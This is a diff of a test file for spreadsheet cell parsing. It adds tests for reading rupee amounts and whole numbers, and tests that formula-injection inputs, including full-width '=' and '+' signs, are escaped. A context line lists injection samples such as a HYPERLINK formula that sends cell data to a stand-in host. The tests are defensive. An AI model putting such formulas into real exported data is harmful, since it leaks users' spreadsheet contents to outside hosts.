@@ -18,6 +18,28 @@ describe('cells of sheets', () => {
     expect(readRupees(text)).toEqual({ value });
   });
 
+  test.each(['₹1,299/-', 'Rs. 1,299/-', '1,299.00 INR', 'Rs 1299 /-', '\u00a01,299 ₹\u00a0', '1299/='])(
+    '[IMP-101][C1-12] %s is 1,299 rupees, as bills in India write it',
+    (text) => {
+      expect(readRupees(text)).toEqual({ value: 129_900 });
+    },
+  );
+
+  test.each(['1,299/2', '(1,299)', '12%', '1 299', '१२९९', '--1', '₹', '/-', `${'9'.repeat(30)}`])(
+    '[IMP-101][C1-12] %s is refused',
+    (text) => {
+      expect(readRupees(text)).toHaveProperty('problem');
+    },
+  );
+
+  test('[IMP-101] whole numbers are read with their separators, and what could mean a thousand or one is refused', () => {
+    for (const text of ['1200', '1,200', '1200.00', '1,200.0'])
+      expect(readWholeNumber(text), text).toEqual({ value: 1200 });
+    expect(readWholeNumber('1,00,000')).toEqual({ value: 100_000 });
+    for (const text of ['1.200', '1.000', '1,2', '12,00', '-1', '1e3', '12 pcs'])
+      expect(readWholeNumber(text), text).toHaveProperty('problem');
+  });
+
   test.each(['12.499,00', '1.2E+04', '12499.999', '-5', '12,49,9', '', 'free', '999999999', '1,2,3'])(
     '[IMP-01][C1-12] %s is refused with a sentence',
     (text) => {
@@ -42,6 +64,14 @@ describe('cells of sheets', () => {
     expect(readBarcode('36000291452')).toEqual({ problem: expect.stringContaining('036000291452') });
     expect(readBarcode('BJ1')).toHaveProperty('problem');
   });
+
+  test.each(['＝1+1', '＋1', '－2+3', '＠SUM(1)', "'＝1"])(
+    '[IMP-101][C1-15] the wide sign of %s begins no cell either',
+    (text) => {
+      expect(safeCell(text)).toBe(`'${text}`);
+      expect(plainCell(safeCell(text))).toBe(text);
+    },
+  );
 
   test.each(['=HYPERLINK("http://x.example/?"&A1)', '@SUM(1)', '-2+3', '\tx', '\rx', '+1+1', "'=1", '-clear-'])(
     '[IMP-04][C1-15] %j does not begin a cell, and is read again as it was',
